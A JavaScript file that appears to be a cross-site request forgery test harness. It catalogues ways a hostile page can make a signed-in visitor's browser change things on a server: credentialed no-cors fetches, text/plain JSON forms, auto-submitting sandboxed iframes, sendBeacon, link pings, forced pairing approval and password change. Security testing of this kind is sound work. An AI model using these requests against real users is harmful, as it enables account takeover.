// Ways in which a page tries to change something on a server that its visitor is signed in to.
// Each takes { server, changing, forms, worst, telling, known } and returns whatever it came by: `changing` are the
// addresses at which something is changed, `forms` those of them that forms are sent to, `worst` those that would change
// most; `known` is what the page knows of the member: all but the cookie.

const CHANGED = "written by a page";

const posted = (options) => ({ changing, known }) =>
  each(changing, async (address) =>
    answered(await fetch(address, { method: "POST", credentials: "include", ...options(known) })));

const bodies = {
  "fields": (known) => new URLSearchParams(fieldsOf(known)),
  "parts": (known) => formData(fieldsOf(known)),
  "text": (known) => JSON.stringify(documentOf(known)),
  "JSON": (known) => new Blob([JSON.stringify(documentOf(known))], { type: "application/json" }),
};

const changing = {
  "fetch of fields": posted((known) => ({ mode: "no-cors", body: bodies["fields"](known) })),
  "fetch of parts": posted((known) => ({ mode: "no-cors", body: bodies["parts"](known) })),
  "fetch of JSON that says it is text": posted((known) => ({ mode: "no-cors", body: bodies["text"](known) })),
  "fetch of JSON": posted((known) => ({ body: bodies["JSON"](known) })),
  "fetch with headers of its own": posted((known) => ({
    body: bodies["fields"](known),
    headers: { "X-CSRFToken": known.csrf_token, Authorization: "Bearer ssi_0123456789_guess" },
  })),
  "fetch that outlives the page": posted((known) => ({ mode: "no-cors", keepalive: true, body: bodies["fields"](known) })),
  "fetch without a referrer": posted((known) => ({ mode: "no-cors", referrerPolicy: "no-referrer", body: bodies["fields"](known) })),

  "PUT, PATCH and DELETE": async ({ changing, known }) => {
    const reports = {};
    for (const method of ["PUT", "PATCH", "DELETE"]) {
      const ask = (address) => fetch(address, { method, credentials: "include", body: bodies["fields"](known) });
      reports[method] = await each(changing, async (address) => answered(await ask(address)));
    }
    return reports;
  },
  "XMLHttpRequest": ({ changing, known }) =>
    each(changing, (address) => {
      const request = Object.assign(new XMLHttpRequest(), { withCredentials: true });
      request.open("POST", address);
      request.send(bodies["fields"](known));
      return new Promise((done) => {
        request.onloadend = () => done(`${request.status} ${request.responseText}`);
      });
    }),

  "form": ({ forms, known }) =>
    each(forms, (action) => submitted(action, fieldsOf(known), { method: "post" })),
  "form in parts": ({ forms, known }) =>
    each(forms, (action) => submitted(action, fieldsOf(known), { method: "post", enctype: "multipart/form-data" })),
  "form of JSON that says it is text": ({ forms, known }) => {
    const [name, value] = JSON.stringify({ ...documentOf(known), rest: "=" }).split("=");
    return each(forms, (action) => submitted(action, { [name]: value }, { method: "post", enctype: "text/plain" }));
  },
  "form without a referrer": async ({ worst, known }) => {
    const policy = Object.assign(document.createElement("meta"), { name: "referrer", content: "no-referrer" });
    document.head.append(policy);
    const ended = await each(worst, (action) => submitted(action, fieldsOf(known), { method: "post" }));
    policy.remove();
    return ended;
  },
  "form from nowhere": ({ worst, known }) => {
    const inputs = Object.entries(fieldsOf(known)).map(([name, value]) => `<input name="${name}" value="${value}">`).join("");
    return each(worst, (action) =>
      shown("iframe", {
        sandbox: "allow-forms allow-scripts",
        srcdoc: `<form method="post" action="${action}">${inputs}</form><script>document.forms[0].submit()</script>`,
      }));
  },
  "form in a window": async ({ server, known }) => {
    const other = open("about:blank", "another window");
    const form = other.document.createElement("form");
    Object.assign(form, { method: "post", action: `${server}/pair` });
    form.innerHTML = `<input name="user_code" value="${known.user_code}"><input name="decision" value="allow">`;
    other.document.body.append(form);
    form.submit();
    await pause(200);
    return left(other);
  },
  "form that only asks": ({ telling, known }) => each(telling, (action) => submitted(action, fieldsOf(known), { method: "get" })),
  "address with fields": ({ changing, known }) =>
    each(changing, (address) => shown("img", { src: `${address}?${bodies["fields"](known)}` })),

  "sendBeacon": ({ worst, known }) =>
    each(worst, async (address) =>
      Object.values(bodies).map((body) => looked(() => navigator.sendBeacon(address, body(known)))).join()),
  "ping of a link": ({ changing }) => {
    const link = Object.assign(document.createElement("a"), { href: "#", ping: changing.join(" ") });
    document.body.append(link);
    link.click();
    return "";
  },
  "fetch from another thread": ({ worst, known }) =>
    each(worst, (address) =>
      inWorker(`(await fetch(${JSON.stringify(address)}, { method: "POST", mode: "no-cors", credentials: "include",
        body: new URLSearchParams(${JSON.stringify(fieldsOf(known))}) })).text()`)),
  "asking for a token": async ({ server }) => {
    const ask = (options) => fetch(`${server}/api/pairing`, { method: "POST", body: new URLSearchParams({ client_id: "hostile" }), ...options });
    return [await told(async () => answered(await ask({ mode: "no-cors" }))), await told(async () => answered(await ask({})))];
  },
};

/** What the forms of the server's own pages hold, all in one. */
const fieldsOf = (known) => ({
  ...known,
  name: "hostile", scope: "full", decision: "allow", text: CHANGED, day: "2026-01-01", action: "posted", language: "pl",
  time: "10:00", total: "99", brand: "9", rhythm: "30", shown: "hostile", step: "keep", new: "hostile password", again: "hostile password",
  password: "hostile password", client_id: "hostile",
});

/** The same for a program. */
const documentOf = (known) => ({
  id: known.new_id, captured_at: "2026-01-01T12:00:00+00:00", url: "https://www.linkedin.com/sales/ssi",
  html: `<main>${CHANGED}</main>`, trigger: "click", client: "hostile", ...fieldsOf(known),
});

function formData(fields) {
  const data = new FormData();
  for (const [name, value] of Object.entries(fields)) data.append(name, value);
  data.append("file", new Blob(["hostile"]), "hostile.csv");
  return data;
}
